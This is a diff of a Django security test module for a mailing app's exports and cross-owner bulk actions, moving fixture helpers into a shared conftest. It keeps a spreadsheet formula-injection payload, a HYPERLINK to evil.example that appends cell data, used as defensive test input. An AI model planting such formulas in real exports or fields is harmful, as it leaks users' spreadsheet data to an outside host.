@@ -11,47 +11,23 @@ import csv
 import io
 
 import pytest
-from django.test import Client as HttpClient
 from django.urls import reverse
 from openpyxl import load_workbook
 from wagtail.log_actions import log
 
-from mailing.models import Attempt, Client, Mailing, MailingRun, Message
-from tests.factories import (
-    make_blog_index,
-    make_client,
-    make_mailing,
-    make_message,
-    make_post,
-    make_user,
-)
+from mailing.models import Attempt, Client, Mailing, Message
+from tests.factories import make_blog_index, make_client, make_post, make_user
+from tests.security.conftest import owned_objects, signed_in
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 
-def signed_in(user) -> HttpClient:
-    http = HttpClient()
-    http.force_login(user)
-    return http
-
-
-def objects_of(owner, tag):
-    client = make_client(owner, email=f"{tag.lower()}@example.org", full_name=tag)
-    message = make_message(owner, subject=f"{tag} subject")
-    mailing = make_mailing(owner, clients=[client], message=message, name=f"{tag} news")
-    run = MailingRun.objects.create(
-        mailing=mailing, kind=MailingRun.Kind.MANUAL, slot=mailing.first_send_at
-    )
-    attempt = Attempt.objects.create(run=run, mailing=mailing, client=client)
-    return {Client: client, Message: message, Mailing: mailing, Attempt: attempt}
-
-
 @pytest.fixture
 def owners():
     a, b = make_user(email="a@example.com"), make_user(email="b@example.com")
-    return a, b, objects_of(a, "Alpha-Secret"), objects_of(b, "Bravo-Own")
+    return a, b, owned_objects(a, "Alpha-Secret"), owned_objects(b, "Bravo-Own")
 
 
 def bulk_url(model, action, *objects) -> str:
